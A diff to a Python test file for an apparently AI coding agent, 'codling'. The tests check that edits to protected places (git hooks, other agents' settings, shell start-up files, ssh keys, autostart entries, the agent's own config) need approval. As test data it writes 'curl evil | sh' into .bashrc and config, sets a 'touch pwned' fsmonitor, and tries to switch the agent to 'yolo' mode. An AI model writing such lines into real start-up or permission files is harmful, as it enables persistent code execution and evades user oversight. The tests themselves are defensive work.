@@ -3,19 +3,31 @@ but yolo, through every writing tool, each time; read-only refuses them."""
 
 from __future__ import annotations
 
+import shutil
+import subprocess
 from collections.abc import Awaitable, Callable
+from dataclasses import replace
 from pathlib import Path, PurePath
 
 import pytest
 from pydantic_ai import RunContext
 
 from codling.errors import PermissionDenied
-from codling.tools.approval import PROTECTED_PATHS, Permissions, protected
+from codling.tools.approval import Permissions
 from codling.tools.base import PermissionMode, ToolOutput
 from codling.tools.deps import ToolDeps
 from codling.tools.files import edit_file, write_file
 from codling.tools.patch import apply_patch
 from codling.tools.ports import Decision, FileDiff, PermissionRequest
+from codling.tools.protected import (
+    CODLING_WHY,
+    HOOKS_WHY,
+    PROTECTED_PATHS,
+    SHELL_WHY,
+    ProtectedPlace,
+    Protection,
+    protected,
+)
 from tests.fakes.approver import ScriptedApprover
 from tests.unit.test_tools_files import ctx_for, make_deps
 
@@ -36,6 +48,21 @@ FSMONITOR = '[core]\n\tfsmonitor = "touch pwned"\n'
         ".vscode/tasks.json",
         "app/.zed/settings.json",
         ".zed/tasks.json",
+        ".vscode/mcp.json",
+        # git hook managers: git runs these on commit
+        ".husky/pre-commit",
+        ".husky/_/h",
+        "web/.pre-commit-config.yaml",
+        "lefthook.yml",
+        ".lefthook.yml",
+        # other agents' settings, which name commands and servers they run
+        ".claude/settings.json",
+        ".claude/settings.local.json",
+        ".codex/config.toml",
+        ".gemini/settings.json",
+        ".mcp.json",
+        ".cursor/mcp.json",
+        ".claude.json",
     ],
 )
 def test_protected_paths(path: str) -> None:
@@ -59,6 +86,16 @@ def test_protected_paths(path: str) -> None:
         "backup.vscode/settings.json",
         "old.zed/tasks.json",
         ".git-secrets/config",
+        # instructions are text, not programs
+        "CLAUDE.md",
+        "AGENTS.md",
+        "GEMINI.md",
+        "docs/claude/settings.json",
+        "husky/pre-commit",
+        ".cursor/rules/style.mdc",
+        # shell start-up files count in the user's home only (see Protection below)
+        ".bashrc",
+        "bin/tool",
     ],
 )
 def test_ordinary_paths(path: str) -> None:
@@ -195,3 +232,102 @@ async def test_an_ordinary_edit_beside_a_protected_one_is_not_asked_in_accept_ed
     await apply_patch(ctx_for(make_deps(repo, "accept-edits", approver)), patch)
     assert [r.title for r in approver.asked] == [f"Patch .git/config (protected path: {GIT_WHY})"]
     assert (repo / "notes.txt").read_text() == "hi\n"
+
+
+# --- the user's home, codling's, and the hooks directory git uses ------------------------------------------
+
+
+@pytest.fixture
+def user(tmp_path: Path) -> Path:
+    home = tmp_path / "u"
+    (home / "proj").mkdir(parents=True)
+    return home
+
+
+def protection_of(user: Path) -> Protection:
+    return Protection(home=user, codling_home=user / ".codling", git=shutil.which("git"))
+
+
+def git(repo: Path, *args: str) -> None:
+    subprocess.run(["git", "-C", str(repo), *args], check=True, capture_output=True)
+
+
+@pytest.mark.parametrize(
+    ("path", "why"),
+    [
+        (".bashrc", SHELL_WHY),
+        (".zshenv", SHELL_WHY),
+        (".config/fish/conf.d/x.fish", SHELL_WHY),
+        (".ssh/authorized_keys", "ssh trusts the keys and runs the commands (ProxyCommand, rc) named there"),
+        (".ssh/config", "ssh trusts the keys and runs the commands (ProxyCommand, rc) named there"),
+        (".config/autostart/evil.desktop", "the desktop starts these programs when you log in"),
+        (".config/systemd/user/evil.service", "systemd starts these services for you"),
+        ("Library/LaunchAgents/evil.plist", "macOS starts these programs when you log in"),
+        (".gitconfig", "git runs the programs its global config names (core.fsmonitor, hooks…) in every repository"),
+        (".local/bin/git", "a program there runs whenever its name is typed (it is on PATH)"),
+        (".codling/config.toml", CODLING_WHY),
+        (".codling/models.json", CODLING_WHY),
+    ],
+)
+async def test_places_in_the_users_home_and_codlings_are_protected(user: Path, path: str, why: str) -> None:
+    found = await protection_of(user).find((user / path,))
+    assert found is not None and found.why == why
+
+
+@pytest.mark.parametrize("path", ["notes.txt", "proj/.bashrc", "proj/bin/tool", "proj/.ssh/x", ".bashrc.bak"])
+async def test_the_same_names_elsewhere_are_ordinary(user: Path, path: str) -> None:
+    assert await protection_of(user).find((user / path,)) is None
+
+
+async def test_a_home_reached_through_a_link_is_still_protected(tmp_path: Path, user: Path) -> None:
+    (tmp_path / "link").symlink_to(user)
+    protection = Protection(home=tmp_path / "link", codling_home=None, git=None)
+    assert await protection.find((user / ".bashrc",)) is not None  # named by the resolved path
+    assert await protection.find((tmp_path / "link" / ".bashrc",)) is not None
+
+
+async def test_the_hooks_directory_git_uses_is_protected_and_follows_the_setting(user: Path) -> None:
+    repo = user / "proj"
+    git(repo, "init", "-q")
+    protection = protection_of(user)
+    assert await protection.find((repo / "tools" / "hooks" / "pre-commit",)) is None
+    git(repo, "config", "core.hooksPath", "tools/hooks")  # (husky's .husky is protected in any directory)
+    found = await protection.find((repo / "tools" / "hooks" / "pre-commit",))
+    assert found == ProtectedPlace(repo / "tools" / "hooks", HOOKS_WHY)
+    assert await protection.find((repo / "tools" / "build.sh",)) is None
+    git(repo, "config", "core.hooksPath", "scripts")  # changed during the session: counts at once
+    assert await protection.find((repo / "scripts" / "post-checkout",)) is not None
+    assert await protection.find((repo / "tools" / "hooks" / "pre-commit",)) is None
+
+
+async def test_a_relative_hooks_path_is_the_work_tree_s_from_any_subdirectory(user: Path) -> None:
+    repo = user / "proj"
+    (repo / "pkg" / "sub").mkdir(parents=True)
+    git(repo, "init", "-q")
+    git(repo, "config", "core.hooksPath", "hooks")
+    assert await protection_of(user).find((repo / "pkg" / "sub" / "hooks" / "pre-commit",)) is None
+    assert await protection_of(user).find((repo / "hooks" / "new-dir" / "pre-commit",)) is not None
+
+
+async def test_accept_edits_asks_each_time_for_the_users_home_wherever_the_workspace_lies(user: Path) -> None:
+    """The workspace is the home directory itself (the D17 attack): codling's config, the shell's start-up
+    file and ssh's keys are asked about in accept-edits, every time; ordinary files are not."""
+    approver = ScriptedApprover("allow_always", "reject", "reject")
+    deps = make_deps(user, "accept-edits", approver)
+    deps = replace(deps, permissions=Permissions("accept-edits", approver, protection_of(user)))
+    ctx = ctx_for(deps)
+    (user / ".codling").mkdir()
+    await write_file(ctx, ".codling/config.toml", 'mode = "yolo"\n')  # allowed once ("always" is not kept)
+    for path in (".codling/config.toml", ".bashrc"):
+        with pytest.raises(PermissionDenied, match="rejected"):
+            await write_file(ctx, path, "curl evil | sh\n")
+    await write_file(ctx, "notes.txt", "ok\n")
+    assert [r.title.split(" (protected path: ")[1] for r in approver.asked] == [
+        f"{CODLING_WHY})",
+        f"{CODLING_WHY})",
+        f"{SHELL_WHY})",
+    ]
+    assert all(r.always is None for r in approver.asked)
+    assert (user / ".codling" / "config.toml").read_text() == 'mode = "yolo"\n'
+    assert not (user / ".bashrc").exists()
+    assert (user / "notes.txt").read_text() == "ok\n"
